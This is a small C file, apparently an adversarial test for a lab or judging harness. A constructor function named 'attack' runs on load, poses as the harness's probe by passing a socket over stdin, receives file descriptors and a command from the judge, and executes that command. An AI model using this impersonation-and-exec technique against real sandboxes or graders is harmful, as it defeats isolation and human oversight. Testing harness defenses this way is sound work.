/* Asks the judge for the command as the probe does, from the step's own process. */
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "lab/uts.c"

__attribute__((constructor)) static void attack(void)
{
	union {
		struct cmsghdr header;
		char bytes[CMSG_SPACE(4 * sizeof(int))];
	} control = { 0 };
	char words[4096] = "";
	struct iovec data = { words, 1 };
	struct msghdr message = { .msg_iov = &data,
				  .msg_iovlen = 1,
				  .msg_control = &control,
				  .msg_controllen = CMSG_SPACE(sizeof(int)) };
	int pair[2], fds[4];

	socketpair(AF_UNIX, SOCK_SEQPACKET, 0, pair);
	control.header = (struct cmsghdr){ CMSG_LEN(sizeof(int)), SOL_SOCKET, SCM_RIGHTS };
	memcpy(CMSG_DATA(&control.header), &pair[1], sizeof(int));
	if (sendmsg(STDIN_FILENO, &message, MSG_NOSIGNAL) < 0)
		return;
	close(pair[1]);
	data.iov_len = sizeof(words);
	message.msg_controllen = sizeof(control);
	if (recvmsg(pair[0], &message, 0) <= 0)
		return;
	memcpy(fds, CMSG_DATA(&control.header), sizeof(fds));
	for (int i = 0; i < 3; i++)
		dup2(fds[i], i);
	execlp(words, words, words + strlen(words) + 1, (char *)NULL);
}
